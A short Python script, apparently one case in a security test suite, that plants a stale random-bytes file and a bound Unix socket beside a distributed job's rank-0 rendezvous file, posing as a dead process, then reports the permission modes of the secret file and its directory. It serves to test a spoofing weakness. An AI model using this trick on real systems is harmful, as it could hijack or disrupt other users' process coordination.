"""Leaves a file and a socket where rank 0 is looked for, as a dead one would, in the hope that they are believed."""

import os
import socket
from pathlib import Path

from victim import attack, meeting_file


def leave(_address: str, _port: int) -> str:
    place: Path = meeting_file()
    stale = place.with_name("0" * len(place.name))
    stale.write_bytes(os.urandom(32))
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as listening:
        listening.bind(str(stale.with_suffix(".socket")))
    return f"modes {place.stat().st_mode & 0o777:o} of the secret, {place.parent.stat().st_mode & 0o777:o} around it"


attack(leave)
